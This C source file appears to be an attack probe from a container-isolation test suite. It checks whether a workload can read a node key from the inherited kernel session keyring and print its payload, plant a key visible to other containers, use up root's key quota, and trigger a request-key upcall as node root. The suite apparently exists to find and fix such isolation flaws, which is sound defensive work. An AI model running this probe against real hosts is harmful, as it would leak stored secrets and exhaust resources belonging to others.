// The kernel's keyrings (keyctl, add_key, request_key). Keys are not
// namespaced the way files are: a process's session keyring is inherited
// across fork and exec, so a workload started by the agent (or by zviz run)
// holds the session keyring of the process that started it, with every key
// the node put there (systemd gives each service one; Kerberos, NFS, dm-crypt
// and fscrypt keep keys in them), shared with every other container of that
// agent. And every key a task makes is charged to its uid's quota, the node
// root's for a workload that is uid 0.
//   keyrings   (ZVIZ_ATTACK_KEY: the description of a "user" key the node
//               keeps in the session keyring it started the run with;
//               ZVIZ_ATTACK_TAG)
// Judged on the host: the key's payload is not in the output, the keys it
// planted are not in the node's /proc/keys once the run has ended.
#include "attack.h"

#include <linux/keyctl.h>

static long keyctl(int op, unsigned long a, unsigned long b, unsigned long c) {
  return syscall(SYS_keyctl, op, a, b, c, 0);
}

/** The number of keys the node charges to uid 0 (/proc/key-users, "0: usage nkeys/ninstantiated ..."), or -1. */
static long root_keys(void) {
  FILE* f = fopen("/proc/key-users", "re");
  if (f == NULL) return -1;
  char line[256];
  long keys = -1;
  while (fgets(line, sizeof(line), f) != NULL) {
    unsigned uid;
    long usage, nkeys;
    if (sscanf(line, " %u: %ld %ld/", &uid, &usage, &nkeys) == 3 && uid == 0) keys = nkeys;
  }
  fclose(f);
  return keys;
}

int main(void) {
  const char* node_key = need_env("ZVIZ_ATTACK_KEY");
  const char* tag = need_env("ZVIZ_ATTACK_TAG");
  char name[256];

  outcome("session-keyring", keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0));
  long key = keyctl(KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, (unsigned long)"user", (unsigned long)node_key);
  outcome("node-key-search", key);
  if (key >= 0) {
    unsigned char payload[256];
    long n = keyctl(KEYCTL_READ, (unsigned long)key, (unsigned long)payload, sizeof(payload));
    if (n > 0) {
      char text[2 * sizeof(payload) + 1];
      hex(text, payload, (size_t)(n < (long)sizeof(payload) ? n : (long)sizeof(payload)));
      say("node-key-read read %s", text);
    } else {
      outcome("node-key-read", n);
    }
  }
  // A key left in the session keyring: another container of the same agent
  // (or anything the agent runs later) would find it there.
  snprintf(name, sizeof(name), "zviz-planted-%s", tag);
  outcome("session-plant", syscall(SYS_add_key, "user", name, "planted", 7, KEY_SPEC_SESSION_KEYRING));
  // The node root's key quota: 32 keys of 1 KiB in a keyring of its own.
  long before = root_keys();
  long made = 0;
  static char blob[1024];
  memset(blob, 'k', sizeof(blob));
  for (int i = 0; i < 32; i++) {
    snprintf(name, sizeof(name), "zviz-quota-%s-%d", tag, i);
    if (syscall(SYS_add_key, "user", name, blob, sizeof(blob), KEY_SPEC_THREAD_KEYRING) < 0) {
      outcome("quota-add", -1);
      break;
    }
    made++;
  }
  long after = root_keys();
  if (made == 32) {
    say("quota-add ok");
    if (before >= 0 && after >= 0) {
      say("quota-charged-to-node-root %s", after - before >= 32 ? "yes" : "no");
    } else {
      // /proc/key-users is masked in every container: the test looks on the node meanwhile.
      say("quota-charged-to-node-root unseen");
    }
    const char* hold = getenv("ZVIZ_ATTACK_HOLD_MS");
    if (hold != NULL) usleep((useconds_t)atoi(hold) * 1000);
  }
  // An upcall: the kernel runs /sbin/request-key as the node's root to make a key it lacks.
  snprintf(name, sizeof(name), "zviz-absent-%s", tag);
  outcome("request-key-upcall", syscall(SYS_request_key, "user", name, "callout", KEY_SPEC_THREAD_KEYRING));
  return 0;
}
